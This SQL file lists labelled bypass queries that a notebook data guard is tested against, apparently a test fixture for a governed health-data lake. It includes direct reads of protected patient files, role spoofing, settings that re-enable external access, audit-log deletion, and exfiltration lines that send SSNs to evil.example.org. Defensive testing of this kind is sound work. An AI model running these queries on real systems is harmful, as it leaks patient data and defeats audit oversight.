-- Attacks a notebook guard must refuse, renamed to the sample lake (taken from the governance research
-- corpus `bypass-corpus.sql`). Renames: daily_census -> readmission_30d (PUBLIC metric view),
-- patients_masked -> admissions (governed, masked), patients_rls -> transfers (row-filtered),
-- patient_id -> subject_id, lake file paths -> the lake's per-tier layout (<tier>/<zone>/<table>/part-000.parquet).
-- Attacking roles in the tests: Public (patients, admissions, transfers hidden) and DataAnalyst
-- (patients.name and patients.ssn hidden, keys hashed).
-- technique: direct-file / read_parquet on a forbidden path
SELECT * FROM read_parquet('phi/curated/patients/part-000.parquet');
-- technique: direct-file / replacement scan on a string literal
SELECT * FROM 'phi/curated/patients/part-000.parquet';
-- technique: direct-file / FROM-first syntax with no SELECT keyword
FROM 'phi/curated/patients/part-000.parquet';
-- technique: direct-file / parquet_scan alias of read_parquet
SELECT * FROM parquet_scan('phi/curated/patients/part-000.parquet');
-- technique: direct-file / file list mixing an allowed and a forbidden file
SELECT * FROM read_parquet(['public/metrics/readmission_30d/part-000.parquet', 'phi/curated/patients/part-000.parquet'], union_by_name = true);
-- technique: direct-file / raw-zone JSON
SELECT * FROM read_json_auto('phi/raw/evergreen_adt/2026/01/01/events.json');
-- technique: direct-file / read_text returns the whole file as a string
SELECT content FROM read_text('phi/raw/evergreen_adt/2026/01/01/events.json');
-- technique: direct-file / read_blob returns raw bytes of a parquet file
SELECT content FROM read_blob('phi/curated/patients/part-000.parquet');
-- technique: direct-file / constant-folded string concatenation hides the path
SELECT * FROM read_parquet('phi/curated/pat' || 'ients/part-000.parquet');
-- technique: direct-file / E-string escape hides the path
SELECT * FROM read_parquet(E'phi/curated/p\x61tients/part-000.parquet');
-- technique: direct-file / path held in a session variable
SET VARIABLE p = 'phi/curated/patients/part-000.parquet'; SELECT * FROM read_parquet(getvariable('p'));
-- technique: direct-file / CALL form of a table function
CALL read_parquet('phi/curated/patients/part-000.parquet');
-- technique: metadata-leak / parquet row-group statistics expose min and max values
SELECT path_in_schema, stats_min_value, stats_max_value FROM parquet_metadata('phi/curated/patients/part-000.parquet');
-- technique: metadata-leak / parquet schema of a forbidden file
SELECT name, type FROM parquet_schema('phi/curated/patients/part-000.parquet');
-- technique: metadata-leak / SUMMARIZE returns min, max and quantiles
SUMMARIZE SELECT * FROM 'phi/curated/patients/part-000.parquet';
-- technique: metadata-leak / DESCRIBE of a forbidden file
DESCRIBE SELECT * FROM 'phi/curated/patients/part-000.parquet';
-- technique: indirection / query_table resolves a table from a string
SELECT * FROM query_table('patients');
-- technique: indirection / query_table with a list, by_name union
SELECT * FROM query_table(['readmission_30d', 'patients'], true);
-- technique: indirection / executing JSON-serialized SQL
SELECT * FROM json_execute_serialized_sql(json_serialize_sql('SELECT * FROM patients'));
-- technique: indirection / PRAGMA form of JSON-serialized SQL
PRAGMA json_execute_serialized_sql(json_serialize_sql('SELECT ssn FROM patients'));
-- technique: indirection / prepared statement executed later
PREPARE s AS SELECT * FROM patients; EXECUTE s;
-- technique: indirection / table macro hides the table reference
CREATE MACRO m() AS TABLE SELECT * FROM patients; SELECT * FROM m();
-- technique: indirection / CALL query_table
CALL query_table('patients');
-- technique: name-tricks / mixed case
SELECT * FROM PaTiEnTs;
-- technique: name-tricks / schema-qualified name
SELECT * FROM main.patients;
-- technique: name-tricks / catalog-qualified name
SELECT * FROM memory.main.patients;
-- technique: name-tricks / allowed name only inside a trailing comment
SELECT * FROM patients -- readmission_30d
-- technique: name-tricks / unicode-escaped identifier (DuckDB 1.5 parser refuses; a guard must not accept it either)
SELECT * FROM U&"p\0061tients";
-- technique: shadowing / table alias named like an allowed view
SELECT readmission_30d.* FROM patients AS readmission_30d;
-- technique: shadowing / temp view shadows an allowed view, even schema-qualified, in later cells
CREATE TEMP VIEW readmission_30d AS SELECT * FROM read_parquet('phi/curated/patients/part-000.parquet'); SELECT * FROM main.readmission_30d;
-- technique: shadowing / search_path (still settable after lock_configuration) sends unqualified names to an attacker schema
ATTACH ':memory:' AS s; CREATE VIEW s.main.readmission_30d AS SELECT * FROM read_parquet('phi/curated/patients/part-000.parquet'); SET search_path = 's.main'; SELECT * FROM readmission_30d;
-- technique: shadowing / replace the governed view with an ungoverned one
CREATE OR REPLACE VIEW admissions AS SELECT * FROM patients; SELECT * FROM admissions;
-- technique: identity-spoof / redefine the role macro used by a row filter
CREATE OR REPLACE MACRO app_role() AS 'Admin'; SELECT * FROM transfers;
-- technique: identity-spoof / overwrite the role variable used by a row filter
SET VARIABLE app_role = 'Admin'; SELECT * FROM transfers;
-- technique: smuggling / EXISTS oracle in WHERE
SELECT count(*) FROM readmission_30d WHERE EXISTS (SELECT 1 FROM patients WHERE ssn = '900-00-0002');
-- technique: smuggling / UNION ALL onto an allowed query
SELECT ward FROM readmission_30d UNION ALL SELECT ssn FROM patients;
-- technique: smuggling / join on a shared key
SELECT d.ward, p.ssn FROM readmission_30d d JOIN patients p ON p.ward = d.ward;
-- technique: smuggling / recursive CTE
WITH RECURSIVE r(x) AS (SELECT ssn FROM patients UNION SELECT x FROM r WHERE false) SELECT * FROM r;
-- technique: smuggling / UNPIVOT statement
UNPIVOT (SELECT name, ssn FROM patients) ON name, ssn INTO NAME k VALUE v;
-- technique: multi-statement / forbidden query after an allowed one
SELECT * FROM readmission_30d; SELECT * FROM patients;
-- technique: column-leak / star with EXCLUDE still returns PHI columns
SELECT * EXCLUDE (name) FROM patients;
-- technique: column-leak / COLUMNS() regex selects columns by pattern
SELECT COLUMNS('s.*') FROM patients;
-- technique: column-leak / table name used as a whole-row struct
SELECT p FROM patients p;
-- technique: column-leak / to_json of the whole row
SELECT to_json(p) FROM patients p;
-- technique: column-leak / table-alias column list renames columns positionally
SELECT a, b, c FROM patients t(a, b, c);
-- technique: column-leak / positional column reference
SELECT #3 FROM patients;
-- technique: column-leak / ORDER BY a denied column leaks its order
SELECT subject_id FROM patients ORDER BY ssn;
-- technique: column-leak / aggregate over a denied column
SELECT ward, min(dob), max(name) FROM patients GROUP BY ward;
-- technique: introspection / view definitions reveal file paths and policy logic
SELECT view_name, sql FROM duckdb_views() WHERE NOT internal;
-- technique: introspection / macro bodies reveal masking and role logic
SELECT function_name, macro_definition FROM duckdb_functions() WHERE function_type LIKE '%macro%' AND NOT internal;
-- technique: introspection / duckdb_columns of a forbidden table
SELECT column_name, data_type FROM duckdb_columns() WHERE table_name = 'patients';
-- technique: introspection / pragma_table_info
SELECT * FROM pragma_table_info('patients');
-- technique: introspection / settings reveal allowed paths and extension repository
SELECT name, value FROM duckdb_settings() WHERE name IN ('allowed_paths', 'allowed_directories', 'custom_extension_repository');
-- technique: introspection / session variables may hold role, tokens or keys
SELECT * FROM duckdb_variables();
-- technique: reconfigure / re-enable external access
SET enable_external_access = true;
-- technique: reconfigure / widen allowed directories
SET allowed_directories = ['lake/'];
-- technique: reconfigure / reset every setting
RESET ALL;
-- technique: reconfigure / re-enable extension autoloading
SET autoload_known_extensions = true;
-- technique: reconfigure / allow unsigned extensions
SET allow_unsigned_extensions = true;
-- technique: reconfigure / re-enable a disabled file system
SET disabled_filesystems = '';
-- technique: extensions / load an extension binary from a URL (wasm/http)
LOAD 'https://evil.example.org/evil.duckdb_extension.wasm';
-- technique: attach / attach a database file from the lake
ATTACH 'phi/curated/warehouse.duckdb' AS w (READ_ONLY);
-- technique: exfiltration / COPY a forbidden table to a file
COPY patients TO 'exfil.csv' (HEADER);
-- technique: exfiltration / COPY to a remote URL (wasm/http)
COPY (SELECT * FROM patients) TO 'https://evil.example.org/drop.csv';
-- technique: exfiltration / data interpolated into a URL the engine fetches (wasm/http)
SET VARIABLE x = (SELECT string_agg(ssn, ',') FROM patients); SELECT * FROM read_csv('https://evil.example.org/c?d=' || getvariable('x'));
-- technique: audit-tamper / delete audit rows kept in the same engine
DELETE FROM audit_log;
-- technique: audit-tamper / forge an audit row
INSERT INTO audit_log VALUES (now(), 'someone_else', 'SELECT 1', 'ok');
-- technique: persistence / stash forbidden rows in a temp table for later cells
CREATE TEMP TABLE stash AS SELECT * FROM patients;
